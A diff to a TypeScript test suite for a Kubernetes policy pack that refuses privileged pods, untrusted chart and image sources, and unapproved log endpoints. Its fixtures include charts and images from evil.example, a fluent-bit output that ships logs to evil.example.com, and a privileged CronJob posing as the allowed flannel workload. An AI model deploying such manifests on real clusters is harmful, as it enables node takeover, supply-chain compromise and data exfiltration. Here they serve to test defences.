@@ -227,7 +227,11 @@ describe("pod-privileges (T11)", () => {
 
   test("prod1 passes: flannel, fluent-bit and the CSI controller are the allowed platform workloads", () => {
     expect(messages(prod1, p())).toEqual([]);
-    expect(cfg("pod-privileges").privilegedWorkloads).toEqual(["kube-flannel/kube-flannel-ds", "logging/fluent-bit@fluent-bit", "kube-system/csi-provisioner"]);
+    expect(cfg("pod-privileges").privilegedWorkloads).toEqual([
+      "DaemonSet/kube-flannel/kube-flannel-ds",
+      "logging/fluent-bit@fluent-bit",
+      "Deployment/kube-system/csi-provisioner",
+    ]);
     // Node-exporter's host access is on by default in kube-prometheus-stack 87.12.5 (prometheus-node-exporter
     // 4.55.1 values.yaml:382-397), the CSI node plugin's whatever the values: granted path by path.
     expect(cfg("pod-privileges").privilegedChartValues).toEqual([
@@ -242,8 +246,8 @@ describe("pod-privileges (T11)", () => {
     const found = messages(prod1, podPrivileges("mandatory", { ...cfg("pod-privileges"), privilegedChartValues: [] }));
     expect(found).toEqual(
       [
-        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
-        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
+        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
+        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
       ].map((m) => m.replace("FIX", FIX)),
     );
   });
@@ -262,7 +266,7 @@ describe("pod-privileges (T11)", () => {
       any(one(s, ORDER).props).spec.template.metadata.annotations = { "container.apparmor.security.beta.kubernetes.io/app": "unconfined" };
     });
     expect(messages(bad, p())).toEqual([
-      `${ORDER}: commerce/order-service asks for the node (` +
+      `${ORDER}: Deployment/commerce/order-service asks for the node (` +
         [
           "template.metadata.annotations[container.apparmor.security.beta.kubernetes.io/app]=unconfined",
           "template.spec.containers[0].ports[0].hostPort",
@@ -273,7 +277,7 @@ describe("pod-privileges (T11)", () => {
           "template.spec.initContainers[0].securityContext.appArmorProfile.type=Unconfined",
           "template.spec.securityContext.seccompProfile.type=Unconfined",
         ].join(", ") +
-        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+        `) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
     ]);
   });
 
@@ -291,7 +295,7 @@ describe("pod-privileges (T11)", () => {
       spec.initContainers[0].securityContext = { windowsOptions: { hostProcess: true }, procMount: "Default" };
     });
     expect(messages(bad, p())).toEqual([
-      `${ORDER}: commerce/order-service asks for the node (` +
+      `${ORDER}: Deployment/commerce/order-service asks for the node (` +
         [
           "template.spec.containers[0].securityContext.procMount=Unmasked",
           "template.spec.containers[0].securityContext.seLinuxOptions.user=system_u",
@@ -299,7 +303,7 @@ describe("pod-privileges (T11)", () => {
           "template.spec.securityContext.seLinuxOptions.type=spc_t",
           "template.spec.securityContext.sysctls[1]=kernel.core_pattern",
         ].join(", ") +
-        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+        `) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
     ]);
   });
 
@@ -354,7 +358,7 @@ describe("pod-privileges (T11)", () => {
     expect(found).toHaveLength(2);
     const volumeIndex = podSpec(bad, ORDER).volumes.length - 1;
     expect(found[1]).toBe(
-      `${ORDER}: commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
+      `${ORDER}: Deployment/commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
     );
     expect(found[0]).toMatch(
       /^prod1-monitoring-kube-prometheus-stack: monitoring\/kube-prometheus-stack asks for the node \(prometheus\.prometheusSpec\.hostPID\)/,
@@ -396,7 +400,7 @@ describe("pod-privileges (T11): charts by URL, charts never reviewed, values the
       urn: `urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::${name}`,
       props: { namespace: "commerce", name, values: {}, ...props },
     });
-  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
+  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
 
   test("the charts outside CHART_PRIVILEGE_VALUES that prod1 installs are reviewed by name@version in the pack config", () => {
     expect(cfg("pod-privileges").reviewedCharts).toEqual(["kubelet-csr-approver@1.2.14", "ks-core@1.1.4", "skywalking-helm@4.7.0"]);
@@ -515,7 +519,7 @@ describe("pod-privileges (T11): every kind that carries pods, and PersistentVolu
   const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
   const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
     s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { name, namespace: "commerce" }, ...props } });
-  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
+  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
   const pod = (extra: Record<string, unknown>) => ({ containers: [{ name: "c", image: "busybox" }], ...extra });
 
   test("a hostPath or local PersistentVolume is refused (a claim in any namespace mounts it); a CSI one passes; granted by PersistentVolume/<name>", () => {
@@ -559,17 +563,17 @@ describe("pod-privileges (T11): every kind that carries pods, and PersistentVolu
     });
     expect(messages(bad, p())).toEqual(
       [
-        "rc: commerce/rc asks for the node (template.spec.hostNetwork)",
-        "tpl: commerce/tpl asks for the node (template.spec.hostIPC)",
-        "dp: commerce/dp asks for the node (template.spec.hostPID)",
-        "pp: commerce/pp asks for the node (spec.volumes[0].hostPath)",
-        "jp: commerce/jp asks for the node (template.spec.containers[0].securityContext.privileged)",
-        "cjp: commerce/cjp asks for the node (jobTemplate.spec.template.spec.hostNetwork)",
-        "rsp: commerce/rsp asks for the node (template.spec.hostPID)",
-        "ssp: commerce/ssp asks for the node (template.spec.hostIPC)",
-        "dsp: commerce/dsp asks for the node (template.spec.hostNetwork)",
-        "rollout: commerce/rollout asks for the node (template.spec.hostPID)",
-        "runner: commerce/runner asks for the node (pods[0].podSpec.containers[0].securityContext.privileged)",
+        "rc: ReplicationController/commerce/rc asks for the node (template.spec.hostNetwork)",
+        "tpl: PodTemplate/commerce/tpl asks for the node (template.spec.hostIPC)",
+        "dp: Deployment/commerce/dp asks for the node (template.spec.hostPID)",
+        "pp: Pod/commerce/pp asks for the node (spec.volumes[0].hostPath)",
+        "jp: Job/commerce/jp asks for the node (template.spec.containers[0].securityContext.privileged)",
+        "cjp: CronJob/commerce/cjp asks for the node (jobTemplate.spec.template.spec.hostNetwork)",
+        "rsp: ReplicaSet/commerce/rsp asks for the node (template.spec.hostPID)",
+        "ssp: StatefulSet/commerce/ssp asks for the node (template.spec.hostIPC)",
+        "dsp: DaemonSet/commerce/dsp asks for the node (template.spec.hostNetwork)",
+        "rollout: Rollout/commerce/rollout asks for the node (template.spec.hostPID)",
+        "runner: Runner/commerce/runner asks for the node (pods[0].podSpec.containers[0].securityContext.privileged)",
       ].map((m) => `${m} ${NOT_LISTED}`),
     );
     // A custom resource without a pod spec is not a workload, whatever its keys.
@@ -1019,5 +1023,135 @@ describe("validated-in-pre (T21): the real preview refuses a prod tag pre never 
       namespace: "commerce",
       image: "harbor.livemall.internal/commerce/order-service:order-service-v2.3.1",
     });
+  });
+});
+
+describe("issue #30: a chart URL in any case of scheme, with a query, or beside a trusted repo", () => {
+  const sources = () => trustedSources("mandatory", cfg("trusted-sources"));
+  const SRC_FIX = "trusted sources live in the pack config (policies/config/prod.json or nonprod.json, trusted-sources), not in the stack file";
+  const TRUSTED =
+    "https://charts.kubesphere.io/main, https://fluent.github.io/helm-charts, https://prometheus-community.github.io/helm-charts, https://kubernetes.github.io/ingress-nginx";
+
+  test("B1: fluent-bit fetched from HTTPS://evil.example is refused by trusted-sources, with or without a trusted repositoryOpts.repo", () => {
+    const evil = "HTTPS://evil.example/fluent-bit-0.57.9.tgz";
+    for (const keepRepo of [false, true]) {
+      const bad = mutated((s) => {
+        const fb = any(one(s, "prod1-logging-fluent-bit").props);
+        fb.chart = evil;
+        if (keepRepo) fb.repositoryOpts = { repo: "https://fluent.github.io/helm-charts" };
+        else delete fb.repositoryOpts;
+      });
+      const found = messages(bad, sources());
+      expect(found).toHaveLength(1);
+      expect(found[0].startsWith(`prod1-logging-fluent-bit: chart repository ${evil} is not trusted (${TRUSTED}`)).toBe(true);
+      expect(found[0].endsWith(`; ${SRC_FIX}`)).toBe(true);
+    }
+    // The trusted host in capitals is the same host.
+    const caps = mutated((s) => {
+      any(one(s, "prod1-logging-fluent-bit").props).chart = "HTTPS://Fluent.GitHub.io/helm-charts/fluent-bit-0.57.9.tgz";
+    });
+    expect(messages(caps, sources())).toEqual([]);
+  });
+
+  test("m2: a query or fragment after the archive name does not hide the chart from pod-privileges or credential-endpoints", () => {
+    const p = podPrivileges("mandatory", cfg("pod-privileges"));
+    const kps = mutated((s) =>
+      s.resources.push({
+        type: "kubernetes:helm.sh/v3:Release",
+        name: "metrics",
+        urn: "urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::metrics",
+        props: {
+          namespace: "commerce",
+          name: "metrics",
+          values: {},
+          chart: "https://prometheus-community.github.io/helm-charts/kube-prometheus-stack-87.12.5.tgz?x=1",
+        },
+      }),
+    );
+    expect(messages(kps, p)).toEqual([
+      expect.stringMatching(/^metrics: commerce\/metrics asks for the node \(prometheus-node-exporter\.hostNetwork \(chart default\): hostNetwork, /),
+    ]);
+    const fb = mutated((s) => {
+      const r = any(one(s, "prod1-logging-fluent-bit").props);
+      r.chart = "https://fluent.github.io/helm-charts/fluent-bit-0.57.9.tgz#f";
+      r.values.config.outputs = "[OUTPUT]\n    Name kafka\n    Brokers evil.example.com:9093\n";
+    });
+    expect(messages(fb, credentialEndpoints("mandatory", cfg("credential-endpoints")))).toEqual([
+      expect.stringMatching(/^prod1-logging-fluent-bit: fluent-bit output evil\.example\.com:9093 is not an allowed log store/),
+    ]);
+  });
+});
+
+describe("issue #30 M1: a workload grant names its Kind", () => {
+  test("a CronJob kube-flannel/kube-flannel-ds with hostPID and a privileged container is refused; the granted DaemonSet passes", () => {
+    const p = podPrivileges("mandatory", cfg("pod-privileges"));
+    const bad = mutated((s) =>
+      s.resources.push({
+        type: "kubernetes:batch/v1:CronJob",
+        name: "fake-flannel",
+        urn: "urn:pulumi:prod1::platform::kubernetes:batch/v1:CronJob::fake-flannel",
+        props: {
+          metadata: { namespace: "kube-flannel", name: "kube-flannel-ds" },
+          spec: {
+            schedule: "* * * * *",
+            jobTemplate: {
+              spec: { template: { spec: { hostPID: true, containers: [{ name: "x", image: "busybox", securityContext: { privileged: true } }] } } },
+            },
+          },
+        },
+      }),
+    );
+    expect(messages(bad, p)).toEqual([
+      `fake-flannel: CronJob/kube-flannel/kube-flannel-ds asks for the node (jobTemplate.spec.template.spec.containers[0].securityContext.privileged, jobTemplate.spec.template.spec.hostPID) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+    ]);
+  });
+});
+
+describe("issue #30 M3: the app's whole image repository, and images in every object that carries pods", () => {
+  test("order-service's Deployment running scm's order-service at a validated tag is refused by validated-in-pre", () => {
+    const bad = mutated((s) => {
+      podSpec(s, ORDER).containers[0].image = "harbor.livemall.internal/scm/order-service:order-service-v2.3.0";
+    });
+    expect(messages(bad, validatedInPre("mandatory", cfg("validated-in-pre")))).toEqual([
+      `${ORDER}: commerce/order-service container app runs harbor.livemall.internal/scm/order-service:order-service-v2.3.0, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
+    ]);
+  });
+
+  test("a DeploymentPatch, PodTemplate, ReplicationController and a custom resource pulling from evil.example are refused by trusted-sources", () => {
+    const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
+      s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { namespace: "commerce", name }, ...props } });
+    const tpl = (image: string) => ({ template: { spec: { containers: [{ name: "c", image }] } } });
+    const bad = mutated((s) => {
+      add(s, "kubernetes:apps/v1:DeploymentPatch", "dp", { spec: tpl("evil.example/a:1") });
+      add(s, "kubernetes:core/v1:PodTemplate", "pt", tpl("evil.example/b:1"));
+      add(s, "kubernetes:core/v1:ReplicationController", "rc", { spec: tpl("evil.example/c:1") });
+      add(s, "kubernetes:argoproj.io/v1alpha1:Rollout", "ro", { spec: tpl("evil.example/d:1") });
+    });
+    const found = messages(bad, trustedSources("mandatory", cfg("trusted-sources")));
+    expect(found.map((m) => m.split(", not from")[0])).toEqual([
+      "dp: container c pulls evil.example/a:1 (evil.example/a)",
+      "pt: container c pulls evil.example/b:1 (evil.example/b)",
+      "rc: container c pulls evil.example/c:1 (evil.example/c)",
+      "ro: container c pulls evil.example/d:1 (evil.example/d)",
+    ]);
+  });
+});
+
+describe("issue #30 m1: *List kinds are refused by pod-privileges", () => {
+  test("a PersistentVolumeList holding a hostPath volume and a DeploymentList holding a privileged pod are each refused by name", () => {
+    const add = (s: PolicyStack, type: string, name: string, items: unknown[]) =>
+      s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { items } });
+    const bad = mutated((s) => {
+      add(s, "kubernetes:core/v1:PersistentVolumeList", "pvs", [{ metadata: { name: "root" }, spec: { hostPath: { path: "/" } } }]);
+      add(s, "kubernetes:apps/v1:DeploymentList", "deps", [
+        { metadata: { name: "x" }, spec: { template: { spec: { containers: [{ name: "c", image: "x", securityContext: { privileged: true } }] } } } },
+      ]);
+    });
+    const why =
+      "declares objects as a list, whose items the pack does not judge one by one (privileges, hostPath volumes, grants); declare each item as its own resource";
+    expect(messages(bad, podPrivileges("mandatory", cfg("pod-privileges")))).toEqual([
+      `pvs: kubernetes:core/v1:PersistentVolumeList ${why}`,
+      `deps: kubernetes:apps/v1:DeploymentList ${why}`,
+    ]);
   });
 });
